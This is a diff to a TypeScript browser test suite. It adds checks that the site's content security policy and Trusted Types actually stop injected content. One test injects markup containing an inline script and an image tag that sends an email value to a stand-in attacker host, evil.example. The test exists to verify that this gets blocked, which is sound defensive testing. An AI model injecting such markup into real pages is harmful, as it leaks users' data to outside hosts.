@@ -5,7 +5,7 @@ import { linesOf } from '../../site/server/reports/browser-report.ts';
 import type { RunningServer } from '../../site/server/start-server.ts';
 import spec from '../../spec/index.ts';
 import { startReceiver, type Receiver } from '../backend/support/receiver.ts';
-import { listen, test, type OpenPage } from '../support/browser.ts';
+import { listen, test, wasStopped, type OpenPage } from '../support/browser.ts';
 import { buildVariant, type Variant } from '../support/variant.ts';
 
 const perPageView = 6;
@@ -105,21 +105,23 @@ describe('a browser reports', () => {
     await arrives({ kind: 'load', file: '/assets/gone-1a2b.js' });
   });
 
-  test('what the content security policy stops: an origin at most', async ({ openPage }) => {
+  test('what the content security policy stops: an origin at most', async ({ openPage, stopped }) => {
     const foreign = '<script>1</script><img src="https://evil.example/ana.png?email=ana">';
     await open(openPage, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
     await arrives(
       { kind: 'policy', directive: 'script-src-elem', blocked: 'inline' },
       { kind: 'policy', directive: 'img-src', blocked: 'https://evil.example' },
     );
+    await wasStopped(stopped, 2);
   });
 
-  test('what Trusted Types stop', async ({ openPage }) => {
+  test('what Trusted Types stop', async ({ openPage, stopped }) => {
     await open(openPage, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
     await arrives(
       { kind: 'policy', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', frames: [frame] },
       { kind: 'error', name: 'TypeError', code: 'trusted-types', frames: [frame] },
     );
+    await wasStopped(stopped, 1);
   });
 
   test('a form whose markup is not what its code expects', async ({ openPage }) => {
